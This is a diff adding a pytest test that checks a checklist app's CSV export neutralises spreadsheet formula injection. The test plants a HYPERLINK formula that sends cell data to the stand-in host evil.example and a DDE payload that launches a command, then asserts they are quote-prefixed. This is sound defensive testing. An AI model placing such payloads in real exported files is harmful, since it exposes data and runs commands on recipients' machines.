@@ -59,6 +59,22 @@ def test_csv_export_follows_the_filters(client, manager, login, data):
     assert table[1][0] == "1"
 
 
+def test_csv_export_never_hands_a_spreadsheet_a_formula(client, manager, login, data, db):
+    from checkapp.models import CheckItem, Fix
+
+    item = db.session.query(CheckItem).filter_by(question="Checkout page loads").one()
+    item.question = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    fix = db.session.query(Fix).filter_by(item_key=item.item_key).one()
+    fix.owner = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db.session.commit()
+    login(manager)
+    table = read_csv(client.get("/fixes/export.csv?department=web", headers={"Accept-Language": "en"}).data, ",")
+    row = table[1]
+    assert row[1] == "'" + item.question
+    assert "'" + fix.owner in row
+    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@")]
+
+
 def share(db, manager, department="logistics", expires_at=None):
     link, token = services.create_share(department, manager, expires_at)
     db.session.commit()
